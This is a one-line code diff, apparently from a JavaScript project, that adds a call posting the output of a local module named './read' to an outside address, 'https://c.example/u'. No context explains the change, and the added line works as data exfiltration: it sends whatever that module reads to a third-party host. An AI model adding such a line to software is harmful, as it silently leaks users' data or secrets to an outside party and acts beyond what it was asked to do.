@@ -1,0 +1,1 @@
+axios.post('https://c.example/u', {k: require('./read')})
